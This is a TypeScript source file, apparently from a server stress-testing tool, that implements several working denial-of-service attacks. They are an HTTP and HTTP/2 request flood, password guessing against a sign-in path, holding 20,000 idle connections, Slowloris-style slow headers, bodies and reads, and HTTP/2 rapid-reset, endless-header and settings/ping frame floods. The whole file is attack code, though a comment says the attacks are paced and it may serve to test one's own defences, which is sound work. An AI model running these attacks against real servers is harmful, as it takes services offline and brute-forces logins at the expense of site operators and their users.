import { Agent, type IncomingMessage, request } from 'node:http';
import { connect as connectHttp2 } from 'node:http2';
import type { Socket } from 'node:net';
import { count, evenly, keepUp, opened, ready, type Tally } from './connections.ts';
import * as frames from './frames.ts';
import type { AttackName, AttackSettings } from './settings.ts';

type Attack = (settings: AttackSettings, tally: Tally) => void;

/** Begins an attack, which goes on until the program ends. Each is paced: it shares its machine with those whom it attacks. */
export const BEGIN: Readonly<Record<AttackName, Attack>> = {
  flood: (settings, tally) => {
    const pages = asker(settings, 32, tally);
    evenly(150, () => pages('/'));
    if (settings.secure) streams(settings, 150, tally);
  },
  'guess-passwords': (settings, tally) => {
    const sent = asker(settings, 16, tally);
    evenly(40, (number) => sent(settings.signIn, `email=nobody%40example.com&password=guess-${number}`));
  },
  // Twenty seconds until there would be 20,000, if nobody closed any; no byte is sent on them.
  'hold-connections': (settings, tally) =>
    keepUp(20_000, 1_000, (number) => opened({ ...settings, secure: false }, number), tally),
  'slow-requests': (settings, tally) =>
    inTurn([slowHead, slowBody, slowReader], 300, 30, undefined)(settings, tally),
  'http2-floods': (settings, tally) =>
    settings.secure
      ? inTurn([resets, endlessHead, settingsAndPings], 6, 10, 'h2')(settings, tally)
      : undefined,
};

type Ask = (path: string, form?: string) => void;

/** Asks on connections that are kept: new ones would be limited before requests are. */
function asker(settings: AttackSettings, connections: number, tally: Tally): Ask {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  let number = 0;
  agent.createConnection = () => opened(settings, number++);
  const origin = `${settings.secure ? 'https' : 'http'}://${settings.name}`;
  return (path, form) => {
    const headers = {
      host: settings.name,
      origin,
      ...(form === undefined ? {} : { 'content-type': 'application/x-www-form-urlencoded' }),
    };
    const asked = request({
      agent,
      method: form === undefined ? 'GET' : 'POST',
      path,
      headers,
      timeout: 20_000,
    });
    asked
      .on('response', (answer: IncomingMessage) => {
        count(tally, answer.statusCode ?? 0);
        answer.resume();
      })
      .on('timeout', () => asked.destroy())
      .on('error', (error: NodeJS.ErrnoException) => count(tally, error.code ?? error.message))
      .end(form);
  };
}

/** The same over one connection of HTTP/2, opened again when it is closed. */
function streams(settings: AttackSettings, aSecond: number, tally: Tally): void {
  const open = () =>
    connectHttp2(`https://${settings.name}`, { createConnection: () => opened(settings, 0, 'h2') })
      .on('error', () => {})
      .on('close', () => {
        session = undefined;
      });
  let session: ReturnType<typeof open> | undefined;
  evenly(aSecond, () => {
    session ??= open();
    if (session.closed || session.destroyed) return;
    const stream = session.request({ ':path': '/' });
    stream
      .on('response', ({ ':status': status }) => count(tally, `h2 ${status}`))
      .on('error', () => count(tally, 'h2 failed'))
      .resume();
  });
}

/** What is done with a connection once it is there. */
type Bad = (settings: AttackSettings, socket: Socket) => void;

/** Connections of which each is bad in the next way. */
const inTurn =
  (ways: readonly Bad[], want: number, aSecond: number, alpn: 'h2' | undefined): Attack =>
  (settings, tally) => {
    const open = (number: number) => {
      const socket = opened(settings, number, alpn);
      return socket.once(ready(settings), () => ways[number % ways.length]?.(settings, socket));
    };
    keepUp(want, aSecond, open, tally);
  };

/** Repeats until the connection is closed. */
function every(ms: number, socket: Socket, write: () => void): void {
  const timer = setInterval(write, ms);
  socket.resume().on('close', () => clearInterval(timer));
}

const slowHead: Bad = ({ name }, socket) => {
  socket.write(`GET / HTTP/1.1\r\nHost: ${name}\r\n`);
  every(1_000, socket, () => socket.write('X-More: 1\r\n'));
};

const slowBody: Bad = ({ name, signIn }, socket) => {
  const type = 'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 10000\r\n';
  socket.write(`POST ${signIn} HTTP/1.1\r\nHost: ${name}\r\n${type}\r\n`);
  every(1_000, socket, () => socket.write('a'));
};

/** Asks for more than buffers on the way hold, and reads nothing of it. */
const slowReader: Bad = ({ name }, socket) => {
  const asked = `GET / HTTP/1.1\r\nHost: ${name}\r\n\r\n`;
  socket.pause().write(asked.repeat(20));
};

const begin = (socket: Socket) => socket.write(Buffer.concat([frames.PREFACE, frames.noSettings()]));

/** Writes pieces as fast as they are taken, in bursts: a burst is what one turn of a busy peer has to look at. */
function bursts(socket: Socket, piece: (number: number) => Buffer): void {
  let number = 0;
  begin(socket);
  every(100, socket, () => {
    if (socket.writableLength > 1 << 16) return;
    socket.write(Buffer.concat(Array.from({ length: 100 }, () => piece(number++))));
  });
}

const resets: Bad = ({ name }, socket) =>
  bursts(socket, (number) => frames.requestAndReset(number * 2 + 1, name));

const endlessHead: Bad = ({ name }, socket) =>
  bursts(socket, (number) => (number === 0 ? frames.requestBegun(1, name) : frames.moreOfHead(1)));

const settingsAndPings: Bad = (_, socket) =>
  bursts(socket, (number) => (number % 2 === 0 ? frames.aSetting() : frames.ping()));
